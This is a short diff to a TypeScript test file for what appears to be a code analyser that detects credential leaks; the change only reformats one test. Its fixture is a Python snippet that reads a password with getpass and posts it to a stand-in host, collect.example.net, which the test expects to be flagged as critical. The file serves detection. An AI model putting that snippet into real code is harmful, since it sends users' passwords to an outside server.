@@ -26,7 +26,9 @@ const events = (m: BehaviourModel, category: string): BehaviourModel['events'] =
 
 describe('python sources', () => {
   it('a password typed at getpass is a secret', () => {
-    const m = model({ 'a.py': 'import getpass, requests\npw = getpass.getpass("Password: ")\nrequests.post("https://collect.example.net/p", data={"p": pw})\n' });
+    const m = model({
+      'a.py': 'import getpass, requests\npw = getpass.getpass("Password: ")\nrequests.post("https://collect.example.net/p", data={"p": pw})\n',
+    });
     expect(flows(m)).toEqual(['credential -> network:collect.example.net CRITICAL']);
   });
 
